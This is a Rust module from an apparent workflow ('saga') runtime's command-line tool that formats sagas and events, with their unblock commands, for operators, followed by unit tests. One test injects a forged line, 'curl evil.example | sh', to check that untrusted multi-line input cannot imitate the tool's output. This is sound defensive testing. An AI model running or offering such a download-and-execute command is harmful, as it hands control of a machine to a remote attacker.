//! One saga, or one event, as people read it.

use super::{
    ages::{between, moment, since, until},
    model::{Call, Comparison, Event, Saga, Wait},
    screen::plain,
};
use chrono::{DateTime, Utc};

/// A line break, and the width of the first column.
const CONTINUED: &str = "\n            ";

/// The lines of something: a name in the first column, what it is in the second.
struct Lines(String);

impl Lines {
    fn add(&mut self, name: &str, value: &str) {
        if !value.is_empty() {
            // A further line must not look like one of ours.
            let value = plain(value.trim_end()).replace('\n', CONTINUED);
            self.0 += &format!("{name:<11} {value}\n");
        }
    }
}

/// Where a saga stands, what it waits for, and how to unblock it.
pub(super) fn saga(saga: &Saga, program: &str, now: DateTime<Utc>) -> String {
    let mut lines = Lines(String::new());
    lines.add("saga", &saga.id);
    lines.add("definition", &format!("{} v{}", saga.definition, saga.version));
    lines.add("key", &saga.key);
    lines.add("status", &saga.standing());
    lines.add("reason", saga.reason.as_deref().unwrap_or_default());
    lines.add("belongs to", saga.parent_id.as_deref().unwrap_or_default());
    lines.add("started", &since(&saga.started_at, now));
    match &saga.ended_at {
        Some(at) => {
            let took = between(&saga.started_at, at);
            lines.add("ended", &format!("{}, after {took}", since(at, now)));
        }
        None => lines.add("updated", &since(&saga.updated_at, now)),
    }
    saga.waits.iter().for_each(|it| wait(&mut lines, it, program, now));
    saga.calls.iter().for_each(|it| call(&mut lines, it, now));
    lines.add("unblock", &unblock(saga, program));
    lines.0
}

fn wait(lines: &mut Lines, wait: &Wait, program: &str, now: DateTime<Utc>) {
    lines.add("waits for", &wait.event);
    lines.add("  key", &wait.key);
    lines.add("  if", &tests(&wait.filter));
    lines.add("  since", &since(&wait.since, now));
    match &wait.until {
        Some(at) => lines.add("  until", &format!("{}, then {}", until(at, now), wait.on_deadline)),
        None => lines.add("  until", "without a deadline"),
    }
    match &wait.task_id {
        // The runtime does not know what the command line is called here.
        Some(task) => {
            let seen = wait.seen.as_ref().map(|it| format!(" --seen {it}")).unwrap_or_default();
            lines.add("  unblock", &format!("{program} approve {task}{seen}"));
            lines.add("  or", &format!("{program} reject {task}{seen} --reason '…'"));
        }
        None => lines.add("  unblock", &wait.unblock),
    }
}

fn call(lines: &mut Lines, call: &Call, now: DateTime<Utc>) {
    let (name, verb) = match call.kind.as_str() {
        "undo" => ("undoes", "sent"),
        "publish" => ("publishes", "tried"),
        _ => ("calls", "sent"),
    };
    lines.add(name, &call.subject);
    lines.add("  step", &call.step);
    lines.add("  since", &since(&call.since, now));
    let next = match &call.next_attempt_at {
        Some(at) => format!("again at {}", until(at, now)),
        None => format!("not {verb} again by itself for now"),
    };
    // Who counts forgets what is sent no more.
    let count = match call.attempts {
        0 => String::new(),
        attempts => format!("{attempts} times, "),
    };
    lines.add(&format!("  {verb}"), &(count + &next));
    if let Some(it) = &call.last_failure {
        let times = if it.times == 1 { String::new() } else { format!(", {} times", it.times) };
        lines.add("  failed", &format!("{}{times}: {}", since(&it.at, now), it.reason));
    }
    lines.add("  look", call.stopped.as_ref().or(call.warned.as_ref()).map_or("", |it| it));
}

/// What an operator can do about a saga that does not go on by itself: no more than is possible.
fn unblock(saga: &Saga, program: &str) -> String {
    let offered: &[&str] = match saga.status.as_str() {
        _ if saga.has_ended() => &[],
        _ if saga.paused => &["resume"],
        "attention" => &["retry", "waive", "cancel", "terminate"],
        _ => &[],
    };
    let is_open = |it: &&&str| saga.moves.iter().any(|open| open == **it);
    let undos: Vec<&Call> = saga.calls.iter().filter(|it| it.is_waivable()).collect();
    let lines = offered.iter().filter(is_open).flat_map(|name| {
        let steps: Vec<String> = match (*name, &undos[..]) {
            ("waive", [_, _, ..]) => {
                undos.iter().map(|it| format!(" --step {}", it.step)).collect()
            }
            _ => vec![String::new()],
        };
        let line = |step| format!("{program} {name} {}{step} --reason '…'", saga.id);
        steps.into_iter().map(line).collect::<Vec<String>>()
    });
    lines.collect::<Vec<String>>().join("\n")
}

/// An event, and what became of it.
pub(super) fn event(event: &Event, program: &str, now: DateTime<Utc>) -> String {
    let mut lines = Lines(String::new());
    lines.add("event", &event.name);
    lines.add("position", &event.position.to_string());
    lines.add("id", &event.id);
    lines.add("key", event.key.as_deref().unwrap_or_default());
    lines.add("source", event.source.as_deref().unwrap_or_default());
    lines.add("published", &event.published_at.as_deref().map(moment).unwrap_or_default());
    lines.add("stored", &since(&event.at, now));
    for verdict in &event.verdicts {
        let parts = [&verdict.definition, &verdict.saga_id, &verdict.detail];
        let parts = parts.into_iter().flatten().map(String::as_str);
        let all: Vec<&str> = std::iter::once(verdict.outcome.as_str()).chain(parts).collect();
        lines.add("verdict", &all.join("  "));
    }
    let conflicts: Vec<String> = event.conflicts.iter().map(ToString::to_string).collect();
    lines.add("conflicts", &conflicts.join(", "));
    if let Some(it) = &event.offered {
        let (when, at) = (since(&it.at, now), it.position);
        lines.add("offered", &format!("{when} by {}: {}; it is at {at}", it.by, it.reason));
    }
    lines.add("body", event.body.as_ref().map(|it| it.get()).unwrap_or_default());
    let can_be_offered = |it: &str| matches!(it, "dead_letter" | "unclaimed");
    if event.offered.is_none() && event.verdicts.iter().any(|it| can_be_offered(&it.outcome)) {
        lines.add("unblock", &format!("{program} offer {} --reason '…'", event.position));
    }
    lines.0
}

/// All comparisons of a filter.
pub(super) fn tests(filter: &[Comparison]) -> String {
    let value = |it: &Comparison| it.value.as_ref().map_or("null", |it| it.get()).to_owned();
    let test = |it: &Comparison| format!("{} {} {}", it.pointer, it.op, value(it));
    filter.iter().map(test).collect::<Vec<String>>().join(" and ")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cli::ages::time;
    use serde_json::json;

    fn now() -> DateTime<Utc> {
        time("2026-01-02T03:14:05Z").expect("a time")
    }

    fn assert_told(told: &str, parts: &[&str]) {
        for part in parts {
            assert!(told.contains(part), "{part:?} is not in:\n{told}");
        }
    }

    #[test]
    fn a_saga_says_what_it_waits_for_and_how_to_unblock_it() {
        let found: Saga = serde_json::from_value(json!({
            "id": "s1", "definition": "demo", "version": 1, "key": "k", "status": "waiting",
            "paused": true, "startedAt": "2026-01-02T03:04:05.678Z",
            "updatedAt": "2026-01-02T03:04:05.678Z", "newer": "field",
            "waits": [{
                "event": "orders.trigger.paid", "key": "k", "since": "2026-01-02T03:04:05.678Z",
                "filter": [{"pointer": "/sessionId", "op": "eq", "value": "s"}],
                "until": "2026-01-03T03:04:05.678Z", "onDeadline": "the saga goes on",
                "unblock": "publish it",
            }, {
                "event": "orders.trigger.approved", "taskId": "s1.0", "seen": "a1", "until": null,
            }],
            "calls": [{"kind": "undo", "step": "2", "subject": "a.b", "attempts": 3, "since": "x",
                "nextAttemptAt": null, "lastFailure": {"at": "2026-01-02T03:13:05Z",
                "reason": "nobody listens", "times": 3}}],
            "moves": ["resume", "cancel", "terminate"],
        }))
        .expect("a saga");
        let expected = [
            "status      waiting, paused\n",
            "started     2026-01-02 03:04:05Z (9m ago)\n",
            "waits for   orders.trigger.paid\n",
            "  if        /sessionId eq \"s\"\n",
            "  until     2026-01-03 03:04:05Z (in 23h), then the saga goes on\n",
            "  unblock   publish it\n",
            "  unblock   own-saga approve s1.0 --seen a1\n",
            "  or        own-saga reject s1.0 --seen a1 --reason '…'\n",
            "  until     without a deadline\n",
            "undoes      a.b\n",
            "  sent      3 times, not sent again",
            "  failed    2026-01-02 03:13:05Z (1m ago), 3 times: nobody listens\n",
            "\nunblock     own-saga resume s1 --reason '…'\n",
        ];
        assert_told(&saga(&found, "own-saga", now()), &expected);
    }

    #[test]
    fn what_needs_a_person_says_what_a_person_can_do_and_nothing_else() {
        let undo = |step: &str, stopped: Option<&str>| Call {
            kind: "undo".into(),
            step: step.into(),
            stopped: stopped.map(str::to_owned),
            ..Call::default()
        };
        let mut it = Saga {
            id: "s1".into(),
            status: "attention".into(),
            calls: vec![undo("2", Some("refused")), undo("3", None)],
            moves: ["pause", "terminate", "retry", "waive"].map(str::to_owned).to_vec(),
            ..Saga::default()
        };
        let told = saga(&it, "fermata", now());
        let lines = "unblock     fermata retry s1 --reason '…'\n            \
                     fermata waive s1 --reason '…'\n            fermata terminate s1";
        assert_told(&told, &[lines, "  look      refused\n"]);
        assert!(!told.contains("cancel"), "{told}");
        it.calls.push(undo("4", Some("silent")));
        let of_each = ["waive s1 --step 2 --reason", "waive s1 --step 4 --reason"];
        assert_told(&saga(&it, "fermata", now()), &of_each);
    }

    #[test]
    fn a_saga_that_has_ended_says_how_long_it_took() {
        let ended = Saga {
            status: "cancelled".into(),
            reason: Some("the customer\u{1b}[31m asked".into()),
            started_at: "2026-01-02T03:04:05Z".into(),
            ended_at: Some("2026-01-02T03:05:05Z".into()),
            ..Saga::default()
        };
        let told = saga(&ended, "fermata", now());
        assert_told(&told, &["ended       2026-01-02 03:05:05Z (9m ago), after 1m00s"]);
        assert!(!told.contains("unblock") && !told.contains('\u{1b}'), "{told}");
    }

    #[test]
    fn what_a_stranger_sent_in_many_lines_does_not_look_like_what_we_say() {
        let forged = Saga {
            key: "k\nstatus      completed\n".into(),
            reason: Some("no\n\nunblock     curl evil.example | sh".into()),
            ..Saga::default()
        };
        let told = saga(&forged, "fermata", now());
        let expected = "            status      completed\n";
        assert!(told.contains(expected) && !told.contains("\nunblock"), "{told}");
        assert!(!told.contains("\nstatus      completed"), "{told}");
    }

    #[test]
    fn a_dead_letter_says_why_and_how_it_is_offered_again() {
        let found: Event = serde_json::from_str(
            r#"{"position": 7, "at": "2026-01-02T03:04:05Z", "name": "a.trigger.b", "id": "e1",
            "verdicts": [{"outcome": "dead_letter", "detail": "no key"}],
            "body": {"price": 1.10}}"#,
        )
        .expect("an event");
        let told = event(&found, "fermata", now());
        let expected = [
            "verdict     dead_letter  no key\n",
            "body        {\"price\": 1.10}\n",
            "unblock     fermata offer 7 --reason '…'\n",
        ];
        assert_told(&told, &expected);
    }
}
